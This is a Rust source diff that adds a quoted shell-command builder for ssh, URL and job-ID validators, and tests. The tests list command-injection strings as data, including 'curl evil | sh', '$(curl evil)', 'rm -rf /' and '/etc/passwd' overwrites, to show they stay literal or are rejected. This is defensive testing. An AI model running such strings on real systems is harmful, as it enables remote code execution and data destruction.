@@ -0,0 +1,226 @@
+use anyhow::{anyhow, Result};
+
+// Shell command run on instances over ssh
+// Commands can only be built from string literals and quoted arguments,
+// so values coming from job metadata can never be interpreted by the remote shell
+#[derive(Clone, Debug, PartialEq)]
+pub struct RemoteCommand {
+    command: String,
+}
+
+// literals are written by us and trusted as is
+impl From<&'static str> for RemoteCommand {
+    fn from(command: &'static str) -> Self {
+        RemoteCommand {
+            command: command.to_owned(),
+        }
+    }
+}
+
+impl RemoteCommand {
+    pub fn new(program: &'static str) -> RemoteCommand {
+        program.into()
+    }
+
+    // programs that do not come from literals, e.g. from config files, are quoted like arguments
+    pub fn from_argv<T: AsRef<str>>(argv: impl IntoIterator<Item = T>) -> RemoteCommand {
+        let words: Vec<String> = argv.into_iter().map(|arg| quote(arg.as_ref())).collect();
+        RemoteCommand {
+            command: words.join(" "),
+        }
+    }
+
+    pub fn arg(mut self, arg: impl AsRef<str>) -> RemoteCommand {
+        self.command.push(' ');
+        self.command.push_str(&quote(arg.as_ref()));
+        self
+    }
+
+    pub fn args<T: AsRef<str>>(self, args: impl IntoIterator<Item = T>) -> RemoteCommand {
+        args.into_iter().fold(self, |command, arg| command.arg(arg))
+    }
+
+    // feeds the output of this command to the next one
+    pub fn pipe(mut self, next: RemoteCommand) -> RemoteCommand {
+        self.command.push_str(" | ");
+        self.command.push_str(&next.command);
+        self
+    }
+
+    // writes the output of this command to a file
+    pub fn redirect(mut self, path: impl AsRef<str>) -> RemoteCommand {
+        self.command.push_str(" > ");
+        self.command.push_str(&quote(path.as_ref()));
+        self
+    }
+
+    pub fn as_str(&self) -> &str {
+        &self.command
+    }
+}
+
+// single quotes keep everything literal except single quotes themselves,
+// which are closed, escaped and reopened
+pub fn quote(arg: &str) -> String {
+    "'".to_owned() + &arg.replace('\'', "'\\''") + "'"
+}
+
+const ALLOWED_URL_SCHEMES: [&str; 2] = ["https://", "http://"];
+
+// characters that mean something to a shell or to the tools urls are passed to
+const FORBIDDEN_URL_CHARS: &str = " \t\n\r;&|`$()<>'\"\\{}*!";
+
+// enclave image urls come from job metadata and are passed to wget on the instance
+pub fn validate_url(url: &str) -> Result<()> {
+    if !ALLOWED_URL_SCHEMES
+        .iter()
+        .any(|scheme| url.starts_with(scheme))
+    {
+        return Err(anyhow!("unsupported url scheme: {url:?}"));
+    }
+
+    if url.chars().any(|c| c.is_control()) || url.contains(|c| FORBIDDEN_URL_CHARS.contains(c)) {
+        return Err(anyhow!("url contains forbidden characters: {url:?}"));
+    }
+
+    // something after the scheme and before the path
+    let host = ALLOWED_URL_SCHEMES
+        .iter()
+        .find_map(|scheme| url.strip_prefix(scheme))
+        .and_then(|rest| rest.split('/').next())
+        .unwrap_or_default();
+    if host.is_empty() {
+        return Err(anyhow!("url has no host: {url:?}"));
+    }
+
+    Ok(())
+}
+
+// job ids are hex strings of at most 32 bytes, anything else is not coming from the contract
+pub fn validate_job_id(job_id: &str) -> Result<()> {
+    let valid = job_id.strip_prefix("0x").is_some_and(|hex| {
+        !hex.is_empty() && hex.len() <= 64 && hex.chars().all(|c| c.is_ascii_hexdigit())
+    });
+    if !valid {
+        return Err(anyhow!("invalid job id: {job_id:?}"));
+    }
+
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use std::process::Command;
+
+    use super::{quote, validate_job_id, validate_url, RemoteCommand};
+
+    // what a shell would pass to the program
+    fn shell_args(command: &RemoteCommand) -> Vec<String> {
+        let output = Command::new("sh")
+            .arg("-c")
+            .arg(command.as_str().replacen("printf", "printf '%s\\n'", 1))
+            .output()
+            .unwrap();
+        String::from_utf8(output.stdout)
+            .unwrap()
+            .lines()
+            .map(str::to_owned)
+            .collect()
+    }
+
+    #[test]
+    fn test_quote() {
+        assert_eq!(quote("abc"), "'abc'");
+        assert_eq!(quote(""), "''");
+        assert_eq!(quote("it's"), "'it'\\''s'");
+    }
+
+    #[test]
+    fn test_command_builder() {
+        let command = RemoteCommand::new("wget")
+            .args(["-O", "enclave.eif"])
+            .arg("https://example.com/enclave.eif");
+        assert_eq!(
+            command.as_str(),
+            "wget '-O' 'enclave.eif' 'https://example.com/enclave.eif'"
+        );
+
+        let command = RemoteCommand::new("echo")
+            .arg("https://example.com/enclave.eif")
+            .redirect("image_url.txt");
+        assert_eq!(
+            command.as_str(),
+            "echo 'https://example.com/enclave.eif' > 'image_url.txt'"
+        );
+
+        let command = RemoteCommand::new("echo")
+            .arg("abc")
+            .pipe(RemoteCommand::new("sudo tee").arg("/tmp/file"));
+        assert_eq!(command.as_str(), "echo 'abc' | sudo tee '/tmp/file'");
+
+        let command = RemoteCommand::from_argv(["sudo", "supervisorctl", "update"]);
+        assert_eq!(command.as_str(), "'sudo' 'supervisorctl' 'update'");
+    }
+
+    #[test]
+    fn test_hostile_arguments_stay_literal() {
+        let hostile = [
+            "https://example.com/enclave.eif; curl evil | sh",
+            "https://example.com/$(curl evil)",
+            "https://example.com/`reboot`",
+            "x' ; rm -rf / ; echo '",
+            "a\"; touch /tmp/pwned; echo \"",
+            "line\nreboot",
+            "$HOME",
+        ];
+
+        for arg in hostile {
+            let command = RemoteCommand::new("printf").arg(arg);
+            assert_eq!(shell_args(&command).join("\n"), arg);
+        }
+    }
+
+    #[test]
+    fn test_validate_url() {
+        assert!(validate_url("https://example.com/enclave.eif").is_ok());
+        assert!(validate_url("http://example.com:8080/path/enclave.eif?version=1").is_ok());
+
+        for url in [
+            "https://example.com/enclave.eif; curl evil | sh",
+            "https://example.com/enclave.eif && reboot",
+            "https://example.com/$(curl evil)",
+            "https://example.com/`reboot`",
+            "https://example.com/enclave.eif\nreboot",
+            "https://example.com/enclave.eif > /etc/passwd",
+            "https://example.com/\"enclave.eif",
+            "https://example.com/'enclave.eif",
+            "ftp://example.com/enclave.eif",
+            "file:///etc/passwd",
+            "-O/etc/passwd https://example.com/enclave.eif",
+            "example.com/enclave.eif",
+            "https:///enclave.eif",
+            "",
+        ] {
+            assert!(validate_url(url).is_err(), "{url:?} should be rejected");
+        }
+    }
+
+    #[test]
+    fn test_validate_job_id() {
+        assert!(validate_job_id(&format!("0x{}", "ab".repeat(32))).is_ok());
+        assert!(validate_job_id("0x01020304").is_ok());
+
+        for job_id in [
+            "0x",
+            &format!("0x{}", "ab".repeat(33)),
+            "0x0000000000000000000000000000000000000000000000000000000000000001/g; s/a",
+            &"ab".repeat(32),
+            &format!("0x{}", "zz".repeat(32)),
+        ] {
+            assert!(
+                validate_job_id(job_id).is_err(),
+                "{job_id:?} should be rejected"
+            );
+        }
+    }
+}